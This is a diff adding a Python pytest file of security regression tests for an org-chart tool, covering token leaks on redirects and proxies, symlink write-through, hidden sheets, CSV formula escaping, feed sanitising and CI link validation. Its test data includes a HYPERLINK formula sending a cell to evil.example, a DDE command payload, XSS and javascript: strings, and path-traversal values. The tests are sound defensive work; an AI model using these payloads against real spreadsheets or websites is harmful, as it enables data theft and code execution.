@@ -1,0 +1,221 @@
+"""Hostile and unusual input against the newest features (hostile10): each test pins one bug
+found by attacking them, with the exact finding, note or error line."""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import threading
+import urllib.request
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any, ClassVar
+from xml.etree import ElementTree
+
+import pytest
+from conftest import Run, run_cli
+
+from orgspec.adopt.cells import csv_cell
+from orgspec.ci import prcomment
+from orgspec.ci.restapi import CommentError
+from orgspec.engine.lint import load_org
+
+SECRET = "ghp-SECRET-token"
+
+
+class _Seen(BaseHTTPRequestHandler):
+    """Answers `[]` (no comments) or redirects to `to` when set; records each request."""
+
+    seen: ClassVar[list[tuple[str, str, str | None]]] = []
+    to: ClassVar[str] = ""
+
+    def log_message(self, *args: Any) -> None:
+        pass
+
+    def _any(self) -> None:
+        self.seen.append((self.command, self.path, self.headers.get("Authorization")))
+        if self.to:
+            self.send_response(302)
+            self.send_header("Location", self.to + self.path)
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+            return
+        self.send_response(200)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", "2")
+        self.end_headers()
+        self.wfile.write(b"[]")
+
+    do_GET = do_POST = do_PATCH = _any
+
+
+@contextlib.contextmanager
+def _server(to: str = "") -> Iterator[tuple[str, list[tuple[str, str, str | None]]]]:
+    handler = type("Handler", (_Seen,), {"seen": [], "to": to})
+    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}", handler.seen
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def test_a_redirect_to_another_host_is_not_followed_with_the_token() -> None:
+    with _server() as (other, stolen), _server(to=other + "/stolen") as (api, seen), \
+            pytest.raises(CommentError) as caught:
+        prcomment.sticky_comment("body", token=SECRET, repo="o/r", number=1, api_url=api)
+    assert str(caught.value) == ("the GitHub API answered GET with a redirect (302) to "
+                                 "'127.0.0.1': not followed, so the token goes nowhere "
+                                 "else; set the API URL to where it leads")
+    assert stolen == []
+    assert [m for m, _, _ in seen] == ["GET"]
+
+
+def test_the_token_to_this_machine_never_goes_through_a_proxy(
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    with _server() as (proxy, through), _server() as (api, seen):
+        monkeypatch.setenv("http_proxy", proxy)
+        monkeypatch.setenv("HTTP_PROXY", proxy)
+        monkeypatch.delenv("no_proxy", raising=False)
+        monkeypatch.delenv("NO_PROXY", raising=False)
+        monkeypatch.setattr(urllib.request, "_opener", None)  # urlopen's, made once a process
+        assert prcomment.sticky_comment("body", token=SECRET, repo="o/r", number=1,
+                                        api_url=api) == "created"
+    assert through == []
+    assert [m for m, _, _ in seen] == ["GET", "POST"]
+
+
+# --- import roster ----------------------------------------------------------------------------
+
+ROSTER = "Name,Department,Manager\nAda,Ops,\nGrace,Ops,Ada\nLinus,Dev,Ada\nKen,Dev,Linus\n"
+
+
+def _import(tmp_path: Path, name: str, data: str | bytes, *args: str) -> Run:
+    roster = tmp_path / name
+    if isinstance(data, str):
+        roster.write_text(data, "utf-8")
+    else:
+        roster.write_bytes(data)
+    return run_cli("import", "roster", str(roster), "-o", str(tmp_path / "org"), "--lang", "en",
+                   *args)
+
+
+def test_a_link_planted_as_a_pending_file_is_not_written_through(tmp_path: Path) -> None:
+    assert _import(tmp_path, "r.csv", ROSTER).code == 0
+    org = tmp_path / "org"
+    (org / "dev.yaml").write_text((org / "dev.yaml").read_text("utf-8") + "# mine\n", "utf-8")
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious", "utf-8")
+    (org / "dev.yaml.new").symlink_to(victim)
+    before = {p.name: p.read_bytes() for p in org.iterdir() if not p.is_symlink()}
+    run = _import(tmp_path, "r.csv", ROSTER + "Linus2,Dev,Linus\n")
+    assert (run.code, run.stderr) == (2, f"orgspec: error: refusing to write 'dev.yaml.new' in "
+                                         f"{str(org)!r}: it is a symbolic link, which the "
+                                         f"import would write through; delete the link\n")
+    assert victim.read_text("utf-8") == "precious"
+    assert {p.name: p.read_bytes() for p in org.iterdir() if not p.is_symlink()} == before
+
+
+def test_a_roster_with_a_header_and_no_one_under_it_removes_nothing(tmp_path: Path) -> None:
+    assert _import(tmp_path, "r.csv", ROSTER).code == 0
+    before = sorted(p.name for p in (tmp_path / "org").iterdir())
+    run = _import(tmp_path, "r.csv", "Name,Department,Manager\n,,\n")
+    assert (run.code, run.stderr) == (2, f"orgspec: error: {tmp_path / 'r.csv'}: the roster has "
+                                         "a header but no one under it: nothing is imported "
+                                         "(an import of no one would remove every team it "
+                                         "wrote)\n")
+    assert sorted(p.name for p in (tmp_path / "org").iterdir()) == before
+
+
+def test_a_hidden_sheet_is_not_taken_for_the_roster(tmp_path: Path) -> None:
+    openpyxl = pytest.importorskip("openpyxl")
+    book = openpyxl.Workbook()
+    book.active.title = "cover"
+    hidden = book.create_sheet("left 2025")
+    hidden.sheet_state = "hidden"
+    hidden.append(["Name", "Department"])
+    hidden.append(["Old Hand", "Archive"])
+    staff = book.create_sheet("staff")
+    for row in ROSTER.splitlines():
+        staff.append(row.split(","))
+    book.save(tmp_path / "r.xlsx")
+    assert run_cli("import", "roster", str(tmp_path / "r.xlsx"), "-o",
+                   str(tmp_path / "org")).code == 0
+    assert sorted(p.name for p in (tmp_path / "org").glob("*.yaml")) == ["dev.yaml", "ops.yaml"]
+    named = run_cli("import", "roster", str(tmp_path / "r.xlsx"), "-o", str(tmp_path / "old"),
+                    "--sheet", "left 2025")
+    assert named.code == 0
+    assert sorted(p.name for p in (tmp_path / "old").glob("*.yaml")) == ["archive.yaml"]
+
+
+# --- export and back --------------------------------------------------------------------------
+
+NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3",
+         "@SUM(A1)", "＝SUM(1)", "－3", "＠x", "'=already quoted", "''", "'Bob", "=", "-"]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_an_export_imported_back_gives_every_name_unchanged(tmp_path: Path, fmt: str) -> None:
+    if fmt == "xlsx":
+        pytest.importorskip("openpyxl")
+    people = "".join(f"- kind: Person\n  id: p{i}\n  name: {json.dumps(n)}\n"
+                     f"  title: {json.dumps(n)}\n" for i, n in enumerate(NAMES))
+    members = ", ".join(f"p{i}" for i in range(len(NAMES)))
+    (tmp_path / "org").mkdir()
+    (tmp_path / "org" / "org.yaml").write_text(
+        f"- kind: Team\n  id: ops\n  name: Ops\n  lead: p0\n  members: [{members}]\n"
+        + people, "utf-8")
+    out = "ex" if fmt == "csv" else "ex.xlsx"
+    assert run_cli("export", "org", "--format", fmt, "-o", out, "--isolated",
+                   cwd=tmp_path).code == 0
+    roster = "ex/people.csv" if fmt == "csv" else "ex.xlsx"
+    assert run_cli("import", "roster", roster, "-o", "back", cwd=tmp_path).code == 0
+    back = load_org([str(tmp_path / "back")]).org
+    assert {pid: (p.name, p.title) for pid, p in back.people.items()} == \
+        {f"p{i}": (n, n) for i, n in enumerate(NAMES)}
+
+
+def test_every_formula_start_gets_a_quote_in_csv() -> None:
+    assert [csv_cell(n) for n in NAMES] == [
+        "'" + n for n in NAMES[:8]] + ["'''", "'Bob", "=", "-"]
+
+
+# --- site ---------------------------------------------------------------------------------------
+
+def test_a_title_with_control_and_bidi_characters_leaves_the_feed_well_formed(
+        tmp_path: Path) -> None:
+    (tmp_path / "org").mkdir()
+    (tmp_path / "org" / "org.yaml").write_text(
+        "- kind: Team\n  id: ops\n  name: Ops\n", "utf-8")
+    title = "</title><x>\u202eevil\x1b[31m"
+    run = run_cli("site", "org", "-o", "site", "--title", title, cwd=tmp_path)
+    assert run.code == 0, run.stderr
+    feed = ElementTree.parse(tmp_path / "site" / "changes" / "feed.xml").getroot()
+    assert feed.findtext("{http://www.w3.org/2005/Atom}title") == \
+        "</title><x>[U+202E]evil[U+001B][31m"
+
+
+# --- report links in CI -------------------------------------------------------------------------
+
+@pytest.mark.parametrize(("url", "sha"), [
+    ("https://gitlab.example.cn/a/b", "../../../other/-/raw/main"),  # leads to another file
+    ("https://gitlab.example.cn/a/b", 'f00"><script>'),
+    ("https://gitlab.example.cn/a/b/../../c", "f00"),  # another project
+    ("https://gitlab.example.cn/a/b\n[x](javascript:alert(1))", "f00"),
+    ('https://gitlab.example.cn/a/b"onmouseover="alert(1)', "f00"),
+    ("javascript:alert(1)//https://x", "f00"),
+])
+def test_a_hostile_ci_project_url_or_commit_gives_relative_links(
+        url: str, sha: str, tmp_path: Path) -> None:
+    from orgspec.run import CiEnv, view_links
+
+    links = view_links(CiEnv.from_environ({"CI_PROJECT_URL": url, "CI_COMMIT_SHA": sha,
+                                           "CI_PROJECT_DIR": str(tmp_path)}))
+    assert (links.repo_url, links.sha) == (None, None)
+    sound = view_links(CiEnv.from_environ({"CI_PROJECT_URL": "https://gitlab.example.cn/a/b",
+                                           "CI_COMMIT_SHA": "f00",
+                                           "CI_PROJECT_DIR": str(tmp_path)}))
+    assert (sound.repo_url, sound.sha) == ("https://gitlab.example.cn/a/b", "f00")
